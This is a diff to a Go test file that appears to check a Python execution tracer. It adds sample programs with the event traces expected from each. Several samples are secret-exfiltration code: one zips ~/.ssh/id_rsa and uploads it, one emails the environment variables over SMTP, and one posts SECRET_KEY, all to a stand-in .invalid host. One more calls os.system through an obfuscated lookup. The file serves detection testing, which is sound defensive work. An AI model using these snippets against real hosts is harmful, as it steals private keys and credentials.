@@ -386,14 +386,76 @@ def f(debug=False):
     if debug: os.system("true")
 f()`, `dead os.system('true')
 call os.system('true')`},
+	{"archive of secrets", `
+import os, zipfile, requests
+p = os.path.expanduser("~/.ssh/id_rsa")
+with zipfile.ZipFile("x.zip", "w") as z:
+    z.write(p)
+requests.post("https://a.invalid", files={"f": open("x.zip", "rb")})`, `secret-file`},
+	{"message of parts", `
+import os, smtplib
+from email.mime.multipart import MIMEMultipart
+from email.mime.text import MIMEText
+m = MIMEMultipart()
+m.attach(MIMEText(str(dict(os.environ))))
+s = smtplib.SMTP("a.invalid")
+s.sendmail("a", "b", m.as_string())`, `import smtplib.SMTP().sendmail('a', 'b', email.mime.multipart.MIMEMultipart().as_string()) <environment`},
+	{"put into a request", `
+import os, requests
+data = {}
+data["e"] = os.environ["SECRET_KEY"]
+requests.post("https://a.invalid", json=data)`, `import requests.post('https://a.invalid', json={'e': ...}) <variable,secret-variable>`},
+	{"many commands", `
+import os
+def run(c): os.system(c)
+run("true 0")
+run("true 1")
+run("true 2")
+run("true 3")
+run("true 4")
+run("true 5")
+run("true 6")
+run("true 7")
+run("true 8")
+run("true 9")
+run("true 10")
+run("true 11")
+run("true 12")
+run("true 13")
+run("true 14")
+run("true 15")
+run("true 16")
+run("true 17")
+run("true 18")
+run("true 19")
+run("true 20")
+run("true 21")
+run("true 22")
+run("true 23")
+run("true 24")
+run("true 25")
+run("true 26")
+run("true 27")
+run("true 28")
+run("true 29")
+`, `import os.system('true 0')
+import os.system('true 29')`},
+	{"listed name", `
+import os
+getattr(os, dir(os)[dir(os).index("sys" + "tem")])("true")`, `import os.system('true')`},
+	{"unbound", `
+os.system("true")`, `import os.system('true')`},
 	{"async", `
 import os, asyncio
 async def main(): os.system("true")
 asyncio.run(main())`, `import os.system('true')`},
 }
 
-func TestPrograms(t *testing.T) {
-	for _, p := range programs {
+func TestPrograms(t *testing.T) { holdPrograms(t, programs) }
+
+// holdPrograms executes programs and looks for the events that they want.
+func holdPrograms(t *testing.T, table []struct{ name, code, want string }) {
+	for _, p := range table {
 		t.Run(p.name, func(t *testing.T) {
 			trace := execute(t, strings.TrimPrefix(p.code, "\n")+"\n")
 			var events []string
